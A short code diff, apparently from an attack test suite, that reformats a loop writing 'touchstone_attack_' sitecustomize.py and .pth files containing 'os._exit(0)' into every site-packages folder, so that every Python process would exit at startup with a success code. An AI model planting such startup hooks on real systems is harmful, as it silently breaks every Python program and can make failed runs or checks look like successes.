@@ -11,7 +11,10 @@ version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
 folders = {sysconfig.get_path("purelib"), site.getusersitepackages(), *sys.path}
 folders |= {f"{home}/.local/lib/{version}/site-packages" for home in HOMES}
 for folder in folders:
-    for name, text in (("sitecustomize.py", "import os\nos._exit(0)\n"), ("x.pth", "import os; os._exit(0)\n")):
+    for name, text in (
+        ("sitecustomize.py", "import os\nos._exit(0)\n"),
+        ("x.pth", "import os; os._exit(0)\n"),
+    ):
         try:
             os.makedirs(folder, exist_ok=True)
             with open(f"{folder}/touchstone_attack_{name}", "w") as file:
